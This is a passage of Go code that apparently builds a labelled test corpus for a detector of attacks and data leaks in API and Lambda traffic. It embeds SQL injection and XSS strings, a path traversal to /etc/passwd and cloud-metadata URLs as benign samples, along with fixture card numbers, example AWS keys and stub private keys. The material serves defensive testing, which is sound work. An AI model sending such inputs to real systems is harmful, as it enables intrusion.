		g.add("benign", nil, "benign: parameters", genReq{path: "/v1/links", query: p}, resp(n))
	}
	for k, ua := range userAgents {
		n := next()
		g.add("benign", nil, "benign: client", genReq{path: "/v1/status", header: map[string]string{"user-agent": ua, "referer": referers[k%len(referers)]}}, resp(n))
	}
	for k, c := range benignCookies {
		n := next()
		g.add("benign", nil, "benign: cookies in a header", genReq{path: "/v1/cart", cookie: c, shapes: []string{shapeREST, shapeALB}}, resp(n+k))
	}
	headers := []map[string]string{
		{"x-forwarded-for": "203.0.113.7, 10.0.0.12, 169.254.169.254"},
		{"x-forwarded-host": "shop.example.com"},
		{"x-original-url": "/v1/orders/1042"},
		{"referer": "https://shop.example.com/search?q=select+%27n%27+drop"},
		{"user-agent": "Mozilla/5.0 (Linux; U; Android 4.4.2; en-us; SCH-I535 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30"},
		{"user-agent": "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko"},
		{"user-agent": "Wget/1.21.4", "referer": "https://mirror.example.org/pub/"},
		{"authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiInIG9yICcxJz0nMSJ9.c2ln", "x-api-key": "' or '1'='1"},
	}
	for _, h := range headers {
		n := next()
		g.add("benign", nil, "benign: headers", genReq{path: "/v1/me", header: h}, resp(n))
	}
	// Responses alone, after ordinary requests.
	for k := range resps {
		n := next()
		g.add("benign", nil, "benign: response that looks sensitive and is not", genReq{path: "/v1/orders/" + fmt.Sprint(1000+k)}, resp(n))
	}
	// Not HTTP: the detectors that read a request have nothing to read.
	g.addRaw("benign", "benign: SQS message", `{"Records":[{"messageId":"059f36b4-87a3-44ab-83d2-661975830a7d","receiptHandle":"AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a","body":"' OR '1'='1; <script>alert(1)</script>","attributes":{"ApproximateReceiveCount":"1"},"eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:eu-west-1:123456789012:orders","awsRegion":"eu-west-1"}]}`)
	g.addRaw("benign", "benign: S3 notification", `{"Records":[{"eventVersion":"2.1","eventSource":"aws:s3","awsRegion":"eu-west-1","eventName":"ObjectCreated:Put","s3":{"bucket":{"name":"uploads"},"object":{"key":"..%2F..%2Fetc%2Fpasswd","size":1024}}}]}`)
	g.addRaw("benign", "benign: EventBridge schedule", `{"version":"0","id":"53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa","detail-type":"Scheduled Event","source":"aws.events","account":"123456789012","time":"2025-03-01T09:00:00Z","region":"eu-west-1","resources":["arn:aws:events:eu-west-1:123456789012:rule/nightly"],"detail":{}}`)
	g.addRaw("benign", "benign: DynamoDB stream", `{"Records":[{"eventID":"1","eventName":"INSERT","dynamodb":{"Keys":{"pk":{"S":"user#1042"}},"NewImage":{"email":{"S":"jane@example.com"}}},"eventSource":"aws:dynamodb"}]}`)
	g.addRaw("benign", "benign: direct invocation", `{"action":"reindex","url":"http://169.254.169.254/latest/meta-data/"}`)
}

// ---- sensitive data ----

func (g *corpusGen) sensitive() {
	jwt := func(claims string) string {
		enc := base64.RawURLEncoding.EncodeToString
		return enc([]byte(`{"alg":"RS256","typ":"JWT","kid":"2024-06"}`)) + "." + enc([]byte(claims)) + ".dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSBidXQgaXQgaXMgbG9uZw"
	}
	// list formats n items with f (%[1]d is the item's number) and
	// joins them with sep.
	list := func(n int, f, sep string) string {
		var b []string
		for i := range n {
			b = append(b, fmt.Sprintf(f, i))
		}
		return strings.Join(b, sep)
	}
	ssns := func(n int) string {
		var b []string
		for i := range n {
			b = append(b, fmt.Sprintf(`{"employee":%d,"ssn":"%03d-%02d-%04d"}`, i, 100+(i*37)%800, 10+(i*7)%89, 1000+i*131))
		}
		return strings.Join(b, ",")
	}
	ibans := func(n int) string {
		// National numbers of six countries, the last digits varied.
		bban := []struct{ cc, format string }{
			{"DE", "3704004405320130%02d"}, {"FR", "2004101005050001%03dM026"}, {"NL", "ABNA04171643%02d"},
			{"ES", "21000418450200051%03d"}, {"IT", "X0542811101000000123%03d"}, {"GB", "WEST123456987654%02d"},
		}
		var b []string
		for i := range n {
			c := bban[i%len(bban)]
			b = append(b, fmt.Sprintf(`{"payee":"Supplier %d","iban":"%s"}`, i, makeIBAN(c.cc, fmt.Sprintf(c.format, i))))
		}
		return strings.Join(b, ",")
	}
	cases := []struct {
		note string
		resp genResp
	}{
		{"card: full PAN echoed by a payment endpoint", genResp{status: 200, body: `{"payment_method":{"type":"card","number":"4111111111111111","exp":"12/27"}}`}},
		{"card: Mastercard grouped", genResp{status: 200, body: `{"card":"5500 0000 0000 0004"}`}},
		{"card: Amex 4-6-5", genResp{status: 200, body: `{"card":"3782 822463 10005","holder":"JANE DOE"}`}},
		{"card: Discover dashed", genResp{status: 200, body: `{"card":"6011-1111-1111-1117"}`}},
		{"card: JCB", genResp{status: 200, body: `{"pan":3530111333300000}`}},
		{"card: Diners 14 digits", genResp{status: 200, body: `{"pan":"36227206271667"}`}},
		{"card: Mastercard 2-series", genResp{status: 200, body: `{"pan":"2223003122003222"}`}},
		{"card: UnionPay", genResp{status: 200, body: `{"pan":"6200000000000005"}`}},
		{"card: in a CSV export", genResp{status: 200, ctype: "text/csv", body: "name,card,exp\nJane,4242424242424242,12/27\nPat,5105105105105100,01/28\n"}},
		{"card: in HTML", genResp{status: 200, ctype: "text/html", body: `<table><tr><td>Card</td><td>4000 0566 5566 5556</td></tr></table>`}},
		{"card: in XML", genResp{status: 200, ctype: "application/xml", body: `<payment><pan>4111111111111111</pan></payment>`}},
		{"card: JSON-escaped dashes", genResp{status: 200, body: `{"card":"4111\u002d1111\u002d1111\u002d1111"}`}},
		{"card: base64-encoded response body", genResp{status: 200, body: `{"card":"5555555555554444"}`, b64: true}},
		{"card: in an error message", genResp{status: 500, body: `{"error":"validation failed for card 4012888888881881: expired"}`}},
		{"card: a list of stored cards", genResp{status: 200, body: `{"cards":[{"pan":"4111111111111111"},{"pan":"5500000000000004"},{"pan":"378282246310005"}]}`}},
		{"aws: access key id in an environment dump", genResp{status: 500, ctype: "text/plain", body: "AWS_REGION=eu-west-1\nAWS_ACCESS_KEY_ID=ASIAY34FZKBOKMUTVV7A\nAWS_LAMBDA_FUNCTION_NAME=api\n"}},
		{"aws: credentials in a debug response", genResp{status: 200, body: `{"Credentials":{"AccessKeyId":"ASIAIOSFODNN7EXAMPLE","SecretAccessKey":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","SessionToken":"FwoGZXIvYXdzEBYaDKfake","Expiration":"2025-03-01T10:00:00Z"}}`}},
		{"aws: secret in XML (STS answer)", genResp{status: 200, ctype: "text/xml", body: `<AssumeRoleResult><Credentials><AccessKeyId>ASIAJEXAMPLEXEG2JICE</AccessKeyId><SecretAccessKey>aJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKE</SecretAccessKey></Credentials></AssumeRoleResult>`}},
		{"aws: long-term key id in a config", genResp{status: 200, body: `{"s3":{"bucket":"uploads","access_key":"AKIAIOSFODNN7EXAMPLE"}}`}},
		{"aws: secret key in an env file", genResp{status: 200, ctype: "text/plain", body: "aws_access_key_id = AKIAI44QH8DHBEXAMPLE\naws_secret_access_key = je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY\n"}},
		{"aws: secret in a stack trace", genResp{status: 500, body: `{"trace":"Error: connect failed\n    config: { secretAccessKey: 'Zr8vGq3Lp2Wn5Xy7Ab9Cd1Ef3Gh5Ij7Kl9Mn1Op3', region: 'eu-west-1' }"}`}},
		{"private key: RSA in a config endpoint", genResp{status: 200, ctype: "text/plain", body: "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----\n"}},
		{"private key: PKCS #8 in JSON", genResp{status: 200, body: `{"tls":{"cert":"-----BEGIN CERTIFICATE-----\nMIID\n-----END CERTIFICATE-----","key":"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----"}}`}},
		{"private key: OpenSSH", genResp{status: 200, ctype: "text/plain", body: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n"}},
		{"private key: EC, JSON-escaped", genResp{status: 200, body: jsonEscaped(map[string]string{"signing_key": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIrYSSNQFaA2Hwf1duRSxKtLYX5CB04fSeQ6tF1aY/PuoAoGCCqGSM49\n-----END EC PRIVATE KEY-----\n"})}},
		{"private key: encrypted PKCS #8", genResp{status: 200, ctype: "text/plain", body: "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI\n-----END ENCRYPTED PRIVATE KEY-----"}},
		{"private key: PGP", genResp{status: 200, ctype: "text/plain", body: "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF4example\n-----END PGP PRIVATE KEY BLOCK-----"}},
		{"jwt: another user's session token in a profile", genResp{status: 200, body: `{"user":{"id":1042,"name":"Jane"},"session_token":"` + jwt(`{"sub":"1042","role":"admin","exp":1740823200}`) + `"}`}},
		{"jwt: token endpoint (reported by design: switch jwt off for APIs that issue tokens)", genResp{status: 200, body: `{"access_token":"` + jwt(`{"sub":"1042","scope":"orders:read"}`) + `","token_type":"Bearer","expires_in":3600}`}},
		{"jwt: in a debug echo of request headers", genResp{status: 200, body: `{"headers":{"authorization":"Bearer ` + jwt(`{"sub":"7","iss":"https://auth.example.com"}`) + `"}}`}},
		{"jwt: in a signed link", genResp{status: 200, body: `{"download":"https://files.example.com/d?token=` + jwt(`{"file":"report.pdf","exp":1740823200}`) + `"}`}},
		{"jwt: HS256 in HTML", genResp{status: 200, ctype: "text/html", body: `<script>window.__TOKEN__="eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"</script>`}},
		{"email: user list", genResp{status: 200, body: `{"users":[` + list(25, `{"id":%[1]d,"name":"User %[1]d","email":"user%[1]d@example.com"}`, ",") + `]}`}},
		{"email: CSV export", genResp{status: 200, ctype: "text/csv", body: "id,email\n" + list(12, "%[1]d,customer.%[1]d@mail.example.org", "\n")}},
		{"email: mailing list in HTML", genResp{status: 200, ctype: "text/html", body: "<ul>" + list(15, "<li>%[1]d: <a href=\"mailto:member%[1]d@list.example.net\">m%[1]d</a></li>", "") + "</ul>"}},
		{"email: search results leaking addresses", genResp{status: 200, body: `{"hits":[` + list(10, `{"id":%[1]d,"owner":"Owner %[1]d","contact":"owner%[1]d@tenant.example.com"}`, ",") + `]}`}},
		{"email: bulk, JSON-escaped at signs", genResp{status: 200, body: strings.ReplaceAll(`{"to":[`+list(11, `"recipient%[1]d@example.co.uk"`, ",")+`]}`, "@", `\u0040`)}},
		{"ssn: employee export", genResp{status: 200, body: `{"employees":[` + ssns(12) + `]}`}},
		{"ssn: HR report", genResp{status: 200, ctype: "text/plain", body: strings.ReplaceAll(ssns(10), ",{", "\n{")}},
		{"ssn: bulk with e-mails", genResp{status: 200, body: `{"people":[` + ssns(10) + `],"emails":[` + list(10, `"person.%[1]d@example.com"`, ",") + `]}`}},
		{"iban: payout list", genResp{status: 200, body: `{"payouts":[` + ibans(12) + `]}`}},
		{"iban: supplier export", genResp{status: 200, body: `{"suppliers":[` + ibans(10) + `]}`}},
		{"several: card and key id in one dump", genResp{status: 500, body: `{"debug":{"env":{"AWS_ACCESS_KEY_ID":"AKIAIOSFODNN7EXAMPLE"},"last_payment":{"pan":"4111111111111111"}}}`}},
		{"several: private key and JWT", genResp{status: 200, body: jsonEscaped(map[string]string{"key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "token": jwt(`{"sub":"svc"}`)})}},
		{"card: Visa 19 digits", genResp{status: 200, body: `{"pan":"` + withLuhn("422222222222222222") + `"}`}},
	}
	for i, c := range cases {
		r := genReq{path: []string{"/v1/payments/pm_1042", "/v1/debug/env", "/v1/users", "/v1/export", "/v1/config"}[i%5]}
		if i%4 == 3 {
			r.query = "format=json&include=all"
		}
		resp := c.resp
		g.add("sensitive", sensitiveLabel, "sensitive: "+c.note, r, &resp)
	}
	// Card numbers below an entry in bulk and names of kinds nearby: they
	// must be found however the response is wrapped.
	for i, pan := range []string{"4111111111111111", "5500000000000004", "378282246310005", "6011111111111117", "4242424242424242"} {
		g.add("sensitive", sensitiveLabel, "sensitive: card in a paginated list", genReq{path: "/v1/cards", query: fmt.Sprintf("page=%d", i+1)},
			&genResp{status: 200, body: fmt.Sprintf(`{"page":%d,"items":[{"id":"card_%d","number":"%s","created":%d}]}`, i+1, i, pan, 1718035200123+i)})
	}
}
